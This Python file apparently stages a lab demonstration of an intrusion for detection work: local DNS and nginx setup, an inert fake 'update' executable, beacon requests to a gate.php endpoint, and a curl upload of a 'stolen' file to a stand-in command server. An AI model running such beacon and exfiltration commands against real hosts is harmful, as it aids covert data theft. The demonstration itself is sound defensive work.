"""The demonstration: an incident from the lure to the command channel, between harmless traffic."""

import time

from stage import C2, EVIL, WEB, noise, prose

PAYLOAD_TEXT = b"CONCERT-DEMO-PAYLOAD "  # what the YARA rule of the demonstration looks for
ODD_AGENT = "Mozzila/5.0 (compatible; demo-loader 1.3)"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BEACON_AGENT = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
VICTIM_ID = "5f2c9a7e41d80b36"
RECORDS = f"""
local=/test/
local=/example.com/
host-record=www.example.com,{WEB}
host-record=updates.example.test,{EVIL}
host-record=gate.example.test,{EVIL}
host-record=cdn.gate.example.test,{C2}
cname=static.example.com,www.example.com
"""
SERVERS = """
	server {{
		listen {web}:80; server_name www.example.com static.example.com;
		location / {{ gzip on; }}
	}}
	server {{
		listen {evil}:80; server_name updates.example.test;
		root {tmp}/evil;
		server_tokens off;
	}}
	server {{
		listen {evil}:80; server_name gate.example.test;
		server_tokens off;
		location = /gate.php {{
			default_type text/html; add_header X-Powered-By PHP/5.4.16; return 200 "OK:sleep=4\\n";
		}}
	}}
	server {{
		listen {c2}:443 ssl; server_name cdn.gate.example.test;
		ssl_protocols TLSv1.2; ssl_certificate {tmp}/c2.pem; ssl_certificate_key {tmp}/c2.key;
		client_max_body_size 1m;
		location / {{ return 200 "accepted\\n"; }}
	}}
"""
BEACONS = 6
PAUSE = 4  # seconds


def demo(stage):
	"""See README.md, 'The demonstration'."""
	# An executable's first bytes and nothing after them that could run.  The text is there a hundred times in a
	# row, so that a copy lies across a segment's edge too.
	payload = b"MZ" + bytes(62) + noise(6000, 11) + PAYLOAD_TEXT * 100 + noise(14000, 12)
	stage.write("evil/dl/update-7.3.exe", payload)
	stage.write("www/index.html", "<!doctype html><title>Example</title><link rel=stylesheet "
		"href=http://static.example.com/style.css><p>" + prose(6000) + "</p>\n")
	stage.write("www/style.css", "p { margin: 1em; }\n" * 20)
	stage.certificate("c2", "/C=XX/ST=Some-State/O=Internet Widgits Pty Ltd/CN=localhost", days="3650")
	stage.dnsmasq(RECORDS)
	stage.nginx(SERVERS.format(tmp=stage.tmp, web=WEB, evil=EVIL, c2=C2), 443, C2)
	stolen = stage.write("collected.bin", noise(9000, 13))
	with stage.capture("demo"):
		browser = ("--compressed", "-A", BROWSER)
		stage.curl(*browser, "http://www.example.com/")
		stage.curl(*browser, "-e", "http://www.example.com/", "http://static.example.com/style.css")
		time.sleep(1)
		stage.curl("-A", ODD_AGENT, "http://updates.example.test/dl/update-7.3.exe")
		time.sleep(2)
		for number in range(BEACONS):
			stage.curl("-A", BEACON_AGENT, "-d", f"n={number}&st=idle&up={300 + PAUSE * number}",
				f"http://gate.example.test/gate.php?id={VICTIM_ID}")
			if number == BEACONS // 2:
				stage.curl(*browser, "http://www.example.com/?q=weather")
			time.sleep(PAUSE)
		stage.curl("-k", "-A", BEACON_AGENT, "--data-binary", f"@{stolen}", "https://cdn.gate.example.test/")


RECORDINGS = {demo: {}}
